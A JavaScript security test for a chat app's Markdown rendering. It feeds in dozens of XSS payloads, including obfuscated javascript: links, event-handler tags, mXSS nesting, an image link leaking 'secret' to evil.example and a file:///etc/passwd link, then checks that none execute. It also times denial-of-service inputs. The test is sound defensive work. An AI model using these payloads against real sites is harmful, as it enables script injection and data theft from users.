// Texts of strangers, of the model and of people do nothing but stand there: nothing runs, no
// element is made of them, nothing is fetched for them, and none holds up the page.
import { check, inWorld, say, until } from "./world.mjs";

const x = "window.__ran=1";
const hostile = [
  `<script>${x}</script>`, `<img src=x onerror="${x}">`, `<svg onload="${x}">`,
  `<svg><script>${x}</script></svg>`, `<iframe srcdoc="<script>parent.${x}</script>"></iframe>`,
  `<iframe src="javascript:parent.${x}"></iframe>`, `[a](javascript:${x})`,
  `[a](JaVaScRiPt:${x})`, `[a](\tjavascript:${x})`, `[a](java\nscript:${x})`,
  `[a](&#106;avascript:${x})`, `[a](javascript&colon;${x})`,
  "[a](data:text/html;base64,PHNjcmlwdD4=)", "[a](vbscript:x)", "[a](file:///etc/passwd)",
  "[a](blob:x)", `<javascript:${x}>`, `![a](javascript:${x})`,
  "![a](https://evil.example/?q=secret)", `![a](data:image/svg+xml,<svg onload=${x}>)`,
  `[a]: javascript:${x}\n\n[a]`, `<a href="javascript:${x}">a</a>`, `<a href=# onclick=${x}>a</a>`,
  `<details open ontoggle=${x}>`, `<video><source onerror=${x}></video>`, `<body onload=${x}>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${x}>`,
  `<form action="javascript:${x}"><button>`,
  `<meta http-equiv=refresh content="0;url=javascript:${x}">`,
  "<link rel=stylesheet href=https://evil.example/a.css>",
  "<style>*{background:url(https://evil.example/)}</style>", "<base href=https://evil.example/>",
  '```"><img src=x onerror=' + x + ">\ncode\n```", "`<img src=x onerror=" + x + ">`",
  `| a |\n|---|\n| <img src=x onerror=${x}> |`, `- [x] <img src=x onerror=${x}>`,
  `# <img src=x onerror=${x}>`, `> <script>${x}</script>`,
  `[<img src=x onerror=${x}>](https://a.example)`,
  `[a](https://a.example "\\" onmouseover=${x}")`, `https://a.example/"onmouseover=${x}`,
  `<https://a.example/" onclick=${x}>`, `&lt;img src=x onerror=${x}&gt;`, "\u202Etxt.exe",
  `</div></main><script>${x}</script>`, `]]><script>${x}</script>`,
  `{{constructor.constructor('${x}')()}}`, `\${${x}}`,
  `<template><script>${x}</script></template>`, `<object data="javascript:${x}">`,
  `<embed src="javascript:${x}">`, `<input autofocus onfocus=${x}>`, `<marquee onstart=${x}>`,
  '<img srcset="https://evil.example/a 1x">', "<audio src=https://evil.example/a autoplay>",
  `<noscript><p title="</noscript><img src=x onerror=${x}>">`, '<a href="//evil.example">a</a>',
  "[a](//evil.example)", "[__proto__](https://a.example)", "~~~js\nconstructor\n~~~",
  "```__proto__\nx\n```", "```constructor\nx\n```",
];
// What takes a careless reader of Markdown seconds.
const shapes = {
  "100,000 blanks": "a" + " ".repeat(100000) + "b",
  "a list 300 deep": Array.from({ length: 300 }, (_, i) => " ".repeat(2 * i) + "- a").join("\n"),
  "5,000 quotes": ">".repeat(5000) + "a",
  "20,000 brackets": "[".repeat(20000),
  "5,000 stars": "**a ".repeat(5000),
  "5,000 ticks": "`a ".repeat(5000),
  "20,000 pictures": "![a](".repeat(20000),
};
const made = tab =>
  tab.evaluate(() => {
    const bad = /^(script|img|iframe|object|embed|svg|video|audio|form|style|link|meta|base|input)$/i;
    const all = [...document.querySelectorAll(".md *, .bubble *, .room *, .ask pre *")];
    return {
      ran: window.__ran ?? 0,
      elements: all.filter(e => bad.test(e.tagName) && !e.classList.contains("icon")).length,
      handlers: [...document.querySelectorAll("#app *")].filter(e =>
        [...e.attributes].some(a => /^on/i.test(a.name))).length,
      schemes: [...new Set([...document.querySelectorAll(".md a")].map(a => a.protocol))].join(),
    };
  });

await inWorld(async world => {
  const tab = await world.signedIn();
  await say(tab, "[[plain]]\n\n" + hostile.join("\n\n"));
  await until("an answer", () => tab.$(".turn.agent:not(.live) .md"));
  await tab.waitForFunction(() => !document.querySelector(".live"));
  await new Promise(done => setTimeout(done, 500)); // time for what should not run
  const found = await made(tab);
  check(`${hostile.length} texts: nothing ran`, found.ran === 0);
  check("no element was made of them", found.elements === 0 && found.handlers === 0);
  check("links lead to the web alone: " + found.schemes, /^(https?:,?)+$/.test(found.schemes));
  // As titles of rooms, and once more after a reload.
  await tab.reload();
  await until("the room", () => tab.$(".turn.agent .md"));
  check("nothing ran after a reload", (await made(tab)).ran === 0);
  for (const [name, text] of Object.entries(shapes)) {
    const room = "shape-" + name.replace(/\W/g, "");
    await world.api("/api/execute", { instructions: "[[plain]]" + text, chatId: room });
    await tab.goto(world.base + "/ui/chat/api:chat:" + room);
    const worst = await tab.evaluate(async () => {
      let last = performance.now(), longest = 0;
      const end = last + 4000;
      while (performance.now() < end) {
        await new Promise(done => setTimeout(done, 5));
        longest = Math.max(longest, performance.now() - last);
        last = performance.now();
        if (document.querySelector(".turn.agent") && last > end - 3000) break;
      }
      return Math.round(longest);
    });
    check(`${name} hold up the page ${worst} ms`, worst < 1500);
    check(`${name} are shown`, await tab.$(".turn.agent"));
  }
});
